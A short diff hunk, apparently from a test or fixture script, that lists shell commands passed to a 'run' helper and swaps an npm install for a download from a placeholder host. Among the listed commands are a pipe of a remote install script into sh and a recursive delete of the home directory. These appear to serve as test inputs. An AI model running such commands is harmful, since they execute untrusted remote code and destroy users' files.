@@ -50,7 +50,7 @@ run 'ls src'
 run 'echo "rm -rf / is only text here"'
 run 'rm -rf ./build'
 run 'git status --short'
-run 'npm install left-pad --no-audit --no-fund'
+run 'curl -fsSO http://example.invalid/tool.tar.gz'
 run 'curl -fsS http://example.invalid/install.sh | sh'
 run 'rm -rf "$HOME"'
 echo
